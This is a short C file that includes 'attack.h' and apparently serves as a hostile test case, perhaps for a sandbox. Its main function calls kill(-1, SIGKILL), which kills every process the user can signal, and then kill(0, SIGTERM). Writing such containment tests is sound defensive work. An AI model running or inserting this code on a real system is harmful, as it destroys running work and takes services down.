/* kill(-1, SIGKILL). */
#include "attack.h"

int main(void)
{
    kill(-1, SIGKILL);
    kill(0, SIGTERM);
    return 0;
}
